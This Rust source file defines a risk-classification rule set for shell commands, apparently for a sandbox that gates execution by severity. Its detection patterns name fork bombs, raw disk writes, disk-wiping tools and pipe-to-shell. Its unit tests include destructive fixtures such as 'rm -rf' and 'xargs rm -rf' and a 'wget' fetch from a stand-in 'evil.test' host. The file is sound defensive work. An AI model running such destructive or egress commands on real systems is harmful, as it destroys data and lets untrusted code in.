//! Risk rules and the standard rule set.

use regex::Regex;
use serde::{Deserialize, Serialize};

use crate::domain::operation::{is_interpreter, CommandAction};
use crate::domain::{MatchedRule, Operation, OperationCategory, RiskLevel, SandboxMode};
use crate::policy::PolicyContext;

/// Which side of the scratch boundary a recursive delete must fall on.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ScratchScope {
    /// Every target is inside a declared scratch path.
    Inside,
    /// Some target is outside, or the targets are unknown.
    Outside,
}

/// Predicate half of a rule.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "type", rename_all = "snake_case")]
pub enum RuleMatcher {
    /// Regex over the normalized (or raw) command text.
    Pattern { regex: String },
    /// Program basename; a trailing `*` matches a prefix.
    Program { names: Vec<String> },
    Action { actions: Vec<CommandAction> },
    Category { category: OperationCategory },
    PrivilegeEscalation,
    RecursiveDelete { scratch: ScratchScope },
    ProtectedPathMutation,
    PackageRemoval { breaks_dependents: bool },
    PackageInstall,
    NetworkEgress { known_host: bool },
    PipeToShell,
    OutputRedirect,
    CommandSubstitution,
    UnresolvedExpansion,
    /// The declared hint understates the derived category.
    CategoryHintMismatch,
}

impl RuleMatcher {
    /// Evaluate against an operation. `regex` is the compiled form of a
    /// `Pattern` matcher.
    pub fn matches(&self, op: &Operation, policy: &PolicyContext, regex: Option<&Regex>) -> bool {
        let cmds = op.commands();
        match self {
            Self::Pattern { .. } => {
                regex.is_some_and(|re| re.is_match(op.normalized()) || re.is_match(op.raw()))
            }
            Self::Program { names } => cmds
                .iter()
                .any(|c| names.iter().any(|n| program_matches(n, &c.program))),
            Self::Action { actions } => cmds.iter().any(|c| actions.contains(&c.action)),
            Self::Category { category } => op.category() == *category,
            Self::PrivilegeEscalation => op.escalates(),
            Self::RecursiveDelete { scratch } => cmds
                .iter()
                .filter(|c| c.action == CommandAction::Delete && c.recursive)
                .any(|c| {
                    let unknown = c.targets.is_empty() || c.indirect_args;
                    match scratch {
                        ScratchScope::Inside => {
                            !unknown && c.targets.iter().all(|t| policy.is_scratch(t))
                        }
                        ScratchScope::Outside => {
                            unknown || c.targets.iter().any(|t| !policy.is_scratch(t))
                        }
                    }
                }),
            Self::ProtectedPathMutation => cmds
                .iter()
                .any(|c| c.mutated_paths().any(|p| policy.is_protected(p))),
            Self::PackageRemoval { breaks_dependents } => cmds
                .iter()
                .filter(|c| c.action == CommandAction::Remove)
                .any(|c| {
                    !*breaks_dependents
                        || c.packages.iter().any(|p| !policy.dependents_of(p).is_empty())
                }),
            Self::PackageInstall => cmds.iter().any(|c| c.action == CommandAction::Install),
            Self::NetworkEgress { known_host } => cmds
                .iter()
                .filter(|c| matches!(c.action, CommandAction::Fetch | CommandAction::Connect))
                .any(|c| {
                    let all_known =
                        !c.hosts.is_empty() && c.hosts.iter().all(|h| policy.is_known_host(h));
                    all_known == *known_host
                }),
            Self::PipeToShell => cmds
                .iter()
                .any(|c| c.piped_input && is_interpreter(&c.program)),
            Self::OutputRedirect => op.writes_via_redirect(),
            Self::CommandSubstitution => op.has_substitution(),
            Self::UnresolvedExpansion => op.has_expansion(),
            Self::CategoryHintMismatch => op.declared_category().is_some_and(|hint| {
                hint != OperationCategory::Unknown
                    && op.category().precedence() > hint.precedence()
            }),
        }
    }
}

fn program_matches(pattern: &str, program: &str) -> bool {
    match pattern.strip_suffix('*') {
        Some(prefix) => program.starts_with(prefix),
        None => pattern == program,
    }
}

/// A single classification rule.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct RiskRule {
    pub id: String,
    pub description: String,
    pub level: RiskLevel,
    pub required_mode: SandboxMode,
    pub matcher: RuleMatcher,
}

impl RiskRule {
    pub fn new(
        id: &str,
        description: &str,
        level: RiskLevel,
        required_mode: SandboxMode,
        matcher: RuleMatcher,
    ) -> Self {
        Self {
            id: id.to_string(),
            description: description.to_string(),
            level,
            required_mode,
            matcher,
        }
    }

    pub fn to_matched(&self) -> MatchedRule {
        MatchedRule {
            rule_id: self.id.clone(),
            description: self.description.clone(),
            level: self.level,
        }
    }
}

/// Ordered rules plus the programs that are safe when read-only.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct RuleSet {
    #[serde(default)]
    pub safe_programs: Vec<String>,
    pub rules: Vec<RiskRule>,
}

impl RuleSet {
    /// No rules, no safe programs: everything fails closed.
    pub fn empty() -> Self {
        Self {
            rules: Vec::new(),
            safe_programs: Vec::new(),
        }
    }

    /// Append a rule and return `self` (builder pattern).
    pub fn with_rule(mut self, rule: RiskRule) -> Self {
        self.rules.push(rule);
        self
    }

    pub fn with_safe_programs<I, S>(mut self, programs: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        self.safe_programs.extend(programs.into_iter().map(Into::into));
        self
    }

    /// The standard rule set, most severe first.
    ///
    /// | Level       | Rules                                                       |
    /// |-------------|-------------------------------------------------------------|
    /// | Critical    | fork bomb, disk/raw device writes, escalation, opaque text, |
    /// |             | protected paths, recursive delete outside scratch, power,   |
    /// |             | removal that breaks declared dependents                     |
    /// | Destructive | scratch recursive delete, deletes, package removal,         |
    /// |             | unknown-host egress, process signals                        |
    /// | Moderate    | installs, known-host egress, file changes, hint mismatch    |
    pub fn standard() -> Self {
        use RiskLevel::*;
        use SandboxMode::*;

        let pattern = |regex: &str| RuleMatcher::Pattern {
            regex: regex.to_string(),
        };
        let actions = |a: &[CommandAction]| RuleMatcher::Action {
            actions: a.to_vec(),
        };

        let critical = [
            RiskRule::new(
                "fork-bomb",
                "self-replicating process bomb",
                Critical,
                Validation,
                pattern(r"\(\)\s*\{[^}]*\|[^}]*&\s*\}"),
            ),
            RiskRule::new(
                "disk-destroy",
                "formats, partitions or wipes a block device",
                Critical,
                Validation,
                RuleMatcher::Program {
                    names: ["mkfs", "mkfs.*", "wipefs", "fdisk", "sfdisk", "parted", "mkswap", "blkdiscard"]
                        .iter()
                        .map(|s| s.to_string())
                        .collect(),
                },
            ),
            RiskRule::new(
                "raw-device-write",
                "writes directly to a block device",
                Critical,
                Validation,
                pattern(r"(of=|>\s*)/dev/(sd|hd|vd|xvd|nvme|mmcblk|disk|loop|md|dm-)"),
            ),
            RiskRule::new(
                "privilege-escalation",
                "runs with elevated privileges",
                Critical,
                Validation,
                RuleMatcher::PrivilegeEscalation,
            ),
            RiskRule::new(
                "command-substitution",
                "command substitution hides what will run",
                Critical,
                Validation,
                RuleMatcher::CommandSubstitution,
            ),
            RiskRule::new(
                "unresolved-expansion",
                "variable expansion leaves targets unresolved",
                Critical,
                Validation,
                RuleMatcher::UnresolvedExpansion,
            ),
            RiskRule::new(
                "pipe-to-shell",
                "pipes data into a shell or interpreter",
                Critical,
                Validation,
                RuleMatcher::PipeToShell,
            ),
            RiskRule::new(
                "protected-path-mutation",
                "mutates a protected system path",
                Critical,
                Validation,
                RuleMatcher::ProtectedPathMutation,
            ),
            RiskRule::new(
                "recursive-delete-outside-scratch",
                "recursive delete of a non-scratch path",
                Critical,
                Validation,
                RuleMatcher::RecursiveDelete {
                    scratch: ScratchScope::Outside,
                },
            ),
            RiskRule::new(
                "system-power",
                "shuts down or reboots the machine",
                Critical,
                Validation,
                actions(&[CommandAction::Power]),
            ),
            RiskRule::new(
                "package-removal-breaks-dependents",
                "removes a package other packages depend on",
                Critical,
                Validation,
                RuleMatcher::PackageRemoval {
                    breaks_dependents: true,
                },
            ),
        ];

        let destructive = [
            RiskRule::new(
                "recursive-delete-scratch",
                "recursive delete inside a scratch path",
                Destructive,
                Isolated,
                RuleMatcher::RecursiveDelete {
                    scratch: ScratchScope::Inside,
                },
            ),
            RiskRule::new(
                "file-delete",
                "deletes files",
                Destructive,
                Isolated,
                actions(&[CommandAction::Delete]),
            ),
            RiskRule::new(
                "find-delete",
                "find with -delete",
                Destructive,
                Isolated,
                pattern(r"\bfind\b.*\s-delete\b"),
            ),
            RiskRule::new(
                "package-removal",
                "removes packages",
                Destructive,
                Isolated,
                RuleMatcher::PackageRemoval {
                    breaks_dependents: false,
                },
            ),
            RiskRule::new(
                "network-egress-unknown-host",
                "network egress to an unknown host",
                Destructive,
                Isolated,
                RuleMatcher::NetworkEgress { known_host: false },
            ),
            RiskRule::new(
                "process-signal",
                "signals or controls running processes",
                Destructive,
                Isolated,
                actions(&[CommandAction::Signal, CommandAction::Service]),
            ),
        ];

        let moderate = [
            RiskRule::new(
                "package-install",
                "installs or upgrades packages",
                Moderate,
                Isolated,
                RuleMatcher::PackageInstall,
            ),
            RiskRule::new(
                "network-egress-known-host",
                "network egress to a known host",
                Moderate,
                Isolated,
                RuleMatcher::NetworkEgress { known_host: true },
            ),
            RiskRule::new(
                "file-move",
                "moves or renames files",
                Moderate,
                Simulation,
                actions(&[CommandAction::Move]),
            ),
            RiskRule::new(
                "file-create",
                "creates, copies or links files",
                Moderate,
                Simulation,
                actions(&[
                    CommandAction::Create,
                    CommandAction::Copy,
                    CommandAction::Link,
                    CommandAction::Archive,
                ]),
            ),
            RiskRule::new(
                "permission-change",
                "changes permissions or ownership",
                Moderate,
                Simulation,
                actions(&[CommandAction::Chmod]),
            ),
            RiskRule::new(
                "in-place-edit",
                "edits files in place",
                Moderate,
                Simulation,
                actions(&[CommandAction::Edit]),
            ),
            RiskRule::new(
                "output-redirect",
                "redirects output into a file",
                Moderate,
                Simulation,
                RuleMatcher::OutputRedirect,
            ),
            RiskRule::new(
                "archive-extract",
                "extracts an archive",
                Moderate,
                Simulation,
                actions(&[CommandAction::Extract]),
            ),
            RiskRule::new(
                "category-hint-mismatch",
                "declared category understates the operation",
                Moderate,
                Simulation,
                RuleMatcher::CategoryHintMismatch,
            ),
            RiskRule::new(
                "filesystem-mutation-generic",
                "mutates the filesystem",
                Moderate,
                Simulation,
                RuleMatcher::Category {
                    category: OperationCategory::FilesystemMutation,
                },
            ),
        ];

        let safe = [
            "ls", "cat", "echo", "printf", "pwd", "whoami", "id", "date", "head", "tail", "grep",
            "egrep", "fgrep", "rg", "wc", "sort", "uniq", "stat", "file", "du", "df", "which",
            "type", "uname", "hostname", "ps", "tree", "diff", "cmp", "true", "false", "basename",
            "dirname", "realpath", "readlink", "cut", "tr", "column", "jq", "free", "uptime",
            "md5sum", "sha1sum", "sha256sum", "test", "[", "seq", "nl", "od", "xxd", "strings",
            "printenv", "groups", "nproc", "cd", "find", "git", "sed", "tar", "systemctl",
            "lsblk", "lscpu",
        ];

        Self {
            rules: critical
                .into_iter()
                .chain(destructive)
                .chain(moderate)
                .collect(),
            safe_programs: safe.iter().map(|s| s.to_string()).collect(),
        }
    }
}

impl Default for RuleSet {
    fn default() -> Self {
        Self::standard()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn op(raw: &str) -> Operation {
        Operation::new(raw, None, "/home/dev")
    }

    #[test]
    fn test_standard_rule_ids_unique() {
        let set = RuleSet::standard();
        let mut ids: Vec<&str> = set.rules.iter().map(|r| r.id.as_str()).collect();
        let before = ids.len();
        ids.sort();
        ids.dedup();
        assert_eq!(before, ids.len());
    }

    #[test]
    fn test_standard_is_severity_ordered() {
        let set = RuleSet::standard();
        assert!(set.rules.windows(2).all(|w| w[0].level >= w[1].level));
    }

    #[test]
    fn test_rule_modes_never_below_level_minimum() {
        for rule in RuleSet::standard().rules {
            assert!(
                rule.required_mode >= rule.level.minimum_mode(),
                "{} has mode below its level",
                rule.id
            );
        }
    }

    #[test]
    fn test_recursive_delete_scope() {
        let policy = PolicyContext::default().with_scratch_path("/data/tmp");
        let inside = RuleMatcher::RecursiveDelete {
            scratch: ScratchScope::Inside,
        };
        let outside = RuleMatcher::RecursiveDelete {
            scratch: ScratchScope::Outside,
        };
        let scratch_op = op("rm -rf /data/tmp/*");
        assert!(inside.matches(&scratch_op, &policy, None));
        assert!(!outside.matches(&scratch_op, &policy, None));

        let home_op = op("rm -r /data/tmp /srv/app");
        assert!(!inside.matches(&home_op, &policy, None));
        assert!(outside.matches(&home_op, &policy, None));

        let xargs = op("ls | xargs rm -rf");
        assert!(outside.matches(&xargs, &policy, None));
    }

    #[test]
    fn test_protected_path_ignores_copy_source() {
        let policy = PolicyContext::default();
        let m = RuleMatcher::ProtectedPathMutation;
        assert!(!m.matches(&op("cp /etc/hosts /home/dev/hosts"), &policy, None));
        assert!(m.matches(&op("cp hosts /etc/hosts"), &policy, None));
        assert!(m.matches(&op("echo x > /etc/motd"), &policy, None));
    }

    #[test]
    fn test_package_removal_dependents() {
        let policy = PolicyContext::default().with_dependents("libssl3", ["openssh-server"]);
        let breaks = RuleMatcher::PackageRemoval {
            breaks_dependents: true,
        };
        assert!(breaks.matches(&op("apt-get remove libssl3"), &policy, None));
        assert!(!breaks.matches(&op("apt-get remove cowsay"), &policy, None));
    }

    #[test]
    fn test_network_egress_known_host() {
        let policy = PolicyContext::default().with_known_host("example.com");
        let known = RuleMatcher::NetworkEgress { known_host: true };
        let unknown = RuleMatcher::NetworkEgress { known_host: false };
        let fetch = op("curl -o page.html https://example.com/index.html");
        assert!(known.matches(&fetch, &policy, None));
        assert!(!unknown.matches(&fetch, &policy, None));
        assert!(unknown.matches(&op("wget http://evil.test/x"), &policy, None));
    }

    #[test]
    fn test_program_prefix() {
        assert!(program_matches("mkfs.*", "mkfs.ext4"));
        assert!(!program_matches("mkfs", "mkfs.ext4"));
    }

    #[test]
    fn test_hint_mismatch_only_when_understated() {
        let policy = PolicyContext::default();
        let m = RuleMatcher::CategoryHintMismatch;
        let under = Operation::new("rm x", Some(OperationCategory::ReadOnly), "/w");
        let over = Operation::new("ls", Some(OperationCategory::FilesystemMutation), "/w");
        assert!(m.matches(&under, &policy, None));
        assert!(!m.matches(&over, &policy, None));
    }

    #[test]
    fn test_rule_set_toml_roundtrip() {
        let set = RuleSet::standard();
        let text = toml::to_string(&set).unwrap();
        let back: RuleSet = toml::from_str(&text).unwrap();
        assert_eq!(set, back);
    }
}
